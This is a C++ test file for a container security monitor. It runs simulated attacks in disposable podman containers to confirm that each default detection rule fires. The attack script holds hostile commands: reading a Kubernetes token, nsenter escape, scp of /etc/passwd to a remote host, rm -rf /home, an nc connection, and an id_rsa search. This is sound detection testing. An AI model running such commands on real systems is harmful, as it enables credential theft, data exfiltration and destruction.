@@ -1,0 +1,159 @@
+// The default ruleset's container rules, for real: podman + runc (cgroupfs
+// manager, no network) running the busybox image of containers_test.cpp,
+// `podman system service` answering Peregrine's questions about names,
+// images and privilege. One daemon, three containers (plain, one allowed
+// NET_ADMIN so it can give its loopback an outside-looking address, one
+// privileged); every benign action first, then every attack.
+#include <doctest/doctest.h>
+#include <signal.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "default_rules.h"
+
+using namespace pg::e2e;
+using namespace pg::e2e::defaults;
+
+namespace {
+
+const std::string kImage = "localhost/pg-e2e-busybox";
+const std::string kPodman = "podman --runtime runc --cgroup-manager=cgroupfs";
+
+std::string trim(std::string s) {
+  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) s.pop_back();
+  return s;
+}
+
+// The busybox-static image (the same one containers_test.cpp builds).
+void ensure_image() {
+  if (sh(kPodman + " image exists " + kImage + ":latest") == 0) return;
+  TempDir dir;
+  const std::string root = dir.path + "/root";
+  REQUIRE(sh("mkdir -p " + root + "/bin && cd " + root +
+             "/bin && for a in $(/bin/busybox --list); do ln -sf busybox $a; done && "
+             "cp --remove-destination /bin/busybox busybox && tar -C " +
+             root + " -cf " + dir.path + "/image.tar .") == 0);
+  REQUIRE(sh(kPodman + " import --change 'ENV PATH=/bin' " + dir.path + "/image.tar " + kImage +
+             ":latest >/dev/null") == 0);
+}
+
+// `podman system service` on a private socket, and the containers started
+// through it; all removed by the destructor.
+struct Podman {
+  Podman() {
+    REQUIRE_MESSAGE(sh("command -v podman >/dev/null && command -v runc >/dev/null") == 0,
+                    "podman/runc missing: run make deps");
+    ensure_image();
+    socket = dir.path + "/podman.sock";
+    pid = fork();
+    if (pid == 0) {
+      setpgid(0, 0);
+      const std::string arg = "unix://" + socket;
+      execlp("podman", "podman", "--runtime", "runc", "--cgroup-manager=cgroupfs", "system",
+             "service", "--time=0", arg.c_str(), static_cast<char*>(nullptr));
+      _exit(127);
+    }
+    for (int i = 0; i < 200 && access(socket.c_str(), F_OK) != 0; ++i)
+      std::this_thread::sleep_for(50ms);
+    REQUIRE_MESSAGE(access(socket.c_str(), F_OK) == 0, "podman system service did not start");
+  }
+  ~Podman() {
+    for (const auto& n : names) sh(kPodman + " rm -f -t 0 " + n + " >/dev/null 2>&1");
+    if (pid > 0) {
+      kill(pid, SIGTERM);
+      int st = 0;
+      for (int i = 0; i < 100 && waitpid(pid, &st, WNOHANG) == 0; ++i)
+        std::this_thread::sleep_for(50ms);
+      if (waitpid(pid, &st, WNOHANG) == 0) {
+        kill(pid, SIGKILL);
+        waitpid(pid, &st, 0);
+      }
+    }
+  }
+  std::string start(const std::string& name, const std::string& flags) {
+    names.push_back(name);
+    std::string id = trim(run_capture(
+        kPodman + " run -d --network none --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 " +
+        flags + " --name " + name + " " + kImage + " sleep 600"));
+    REQUIRE_MESSAGE(id.size() == 64, "podman run failed for " << name);
+    return id;
+  }
+  TempDir dir;
+  std::string socket;
+  pid_t pid = -1;
+  std::vector<std::string> names;
+};
+
+// `sh -c SCRIPT` in a container, output discarded.
+std::string in(const std::string& container, const std::string& script) {
+  return kPodman + " exec " + container + " sh -c '" + script + "' >/dev/null 2>&1";
+}
+
+}  // namespace
+
+TEST_CASE(
+    "default rules in containers: each attack fires its rule, each benign neighbour is quiet") {
+  Podman podman;
+  const std::string tag = std::to_string(getpid());
+  const std::string plain = "pg-e2e-rules-" + tag, net = "pg-e2e-rules-net-" + tag,
+                    priv = "pg-e2e-rules-priv-" + tag;
+  podman.start(plain, "");
+  podman.start(net, "--cap-add NET_ADMIN");
+  podman.start(priv, "--privileged");
+  // Set-up: a service account token as Kubernetes mounts it, and tools the
+  // image does not have, linked to busybox under their names (the kernel
+  // names a process after the file it executed).
+  REQUIRE(sh(in(plain,
+                "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount /tmp/junk && "
+                "echo token > /var/run/secrets/kubernetes.io/serviceaccount/token && "
+                "echo default > /var/run/secrets/kubernetes.io/serviceaccount/namespace && "
+                "for t in kubectl ssh scp; do ln -s /bin/busybox /tmp/$t; done")) == 0);
+  REQUIRE(sh(in(net, "ip addr add 203.0.113.9/32 dev lo")) == 0);
+
+  Daemon d(daemon_args(
+      {"-o", "container.docker_socket=", "-o", "container.podman_socket=" + podman.socket}));
+  REQUIRE_MESSAGE(d.ready(), d.stderr_text());
+
+  const std::string sa = "/var/run/secrets/kubernetes.io/serviceaccount";
+  const std::vector<RuleCase> cases = {
+      {"Kubernetes credentials read by unexpected program", "", "", sa + "/token"},
+      {"Namespace entered from inside a container", "", "", "container=" + plain},
+      {"Filesystem mounted from inside a container", "", "", "container=" + plain},
+      {"Program executed from a container's writable layer", "", "", "exe=/tmp/bb"},
+      {"Cluster or cloud CLI run in a container", "", "", "command=kubectl get pods"},
+      {"SSH client run in a container", "", "", "command=ssh admin@10.0.0.1"},
+      {"Remote copy tool run in a container", "", "", "command=scp /etc/passwd"},
+      {"Network configuration discovered in a container", "", "", "command=ifconfig -a"},
+      {"Recursive deletion of a system directory", "", "", "command=rm -rf /home"},
+      {"Container connected to an unexpected port", "", "", "203.0.113.9:4445"},
+      {"Shell run in a privileged container", "", "", "container=" + priv},
+  };
+  // The benign neighbours: the same containers doing nearby harmless things.
+  const std::string benign =
+      in(plain, "cat " + sa +
+                    "/namespace; ls /proc/1/ns; cat /proc/mounts; /bin/true; ls /tmp; "
+                    "rm -rf /tmp/junk") +
+      "; " +
+      in(net,
+         "(busybox nc -l -p 443 </dev/null & ); sleep 0.3; "
+         "busybox nc -w 1 203.0.113.9 443 </dev/null") +
+      "; " + kPodman + " exec " + plain + " sh -c true";
+  const std::string attack =
+      in(plain, "cat " + sa +
+                    "/token; nsenter -t 1 -n true; mount -t tmpfs none /mnt; "
+                    "cp /bin/busybox /tmp/bb && /tmp/bb true; /tmp/kubectl get pods; "
+                    "/tmp/ssh admin@10.0.0.1; /tmp/scp /etc/passwd backup@10.0.0.1:/x; "
+                    "ifconfig -a; rm -rf /home") +
+      "; " +
+      in(net,
+         "(busybox nc -l -p 4445 </dev/null & ); sleep 0.3; "
+         "busybox nc -w 1 203.0.113.9 4445 </dev/null") +
+      "; " + kPodman + " exec " + priv + " sh -c true";
+  const int fired = run_table(d, cases,
+                              {in(plain, "find /tmp -name id_rsa"),
+                               "Credentials searched for with find or grep", "container=" + plain},
+                              benign, attack);
+  CHECK(d.stop() == 0);
+  CHECK(fired == static_cast<int>(cases.size()));
+}
